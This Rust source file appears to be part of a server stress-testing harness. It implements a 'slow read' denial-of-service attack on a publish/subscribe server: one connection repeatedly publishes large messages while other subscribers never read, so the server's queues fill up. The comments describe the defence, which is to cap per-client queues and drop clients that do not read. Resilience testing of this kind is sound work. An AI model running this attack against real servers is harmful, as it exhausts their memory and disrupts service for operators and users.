//! An attack by subscribers that do not read.

use std::rc::Rc;
use std::time::Duration;

use tokio::time::{interval, sleep};

use super::commands::{DATA_BYTES, publish};
use super::{Attacker, CommandBatch};

const PUBLISH_EVERY: Duration = Duration::from_millis(50);
/// Receive buffer of the attacker's kernel, which doubles this value.
pub(super) const RECEIVE_BUFFER_BYTES: u32 = 4 * 1024;
/// How long a connection is kept, even if the server closes it earlier: the attacker does not read, so it
/// cannot notice.
const KEEP_TIME: Duration = Duration::from_secs(30);

/// Subscribes to a busy channel and reads nothing, so everything is queued in the server. The first
/// connection publishes to the channel.
///
/// The attack costs one message for each published message, regardless of the number of subscribers that do
/// not read it. A server should limit the queue of each client, including the kernel's send buffer, and close
/// a client that reads nothing for several seconds.
pub(super) async fn slowread(attacker: Rc<Attacker>, index: u32) {
    if index == 0 { publish_large(&attacker).await } else { subscribe(&attacker).await }
}

async fn publish_large(attacker: &Attacker) -> ! {
    let data = format!("\"{}\"", "x".repeat(DATA_BYTES));
    let batch = CommandBatch::of([publish(1, "abuse", &data)]);
    loop {
        let Some(mut session) = attacker.open(None).await else { continue };
        let mut next = interval(PUBLISH_EVERY);
        loop {
            next.tick().await;
            if !attacker.send_batch(&mut session, &batch).await {
                break;
            }
        }
    }
}

async fn subscribe(attacker: &Attacker) -> ! {
    let batch = CommandBatch::of([r#"{"id":1,"subscribe":{"channel":"abuse"}}"#.to_owned()]);
    loop {
        let Some(mut session) = attacker.open(None).await else { continue };
        let is_subscribed = attacker.send_batch(&mut session, &batch).await;
        sleep(if is_subscribed { KEEP_TIME } else { PUBLISH_EVERY }).await;
    }
}
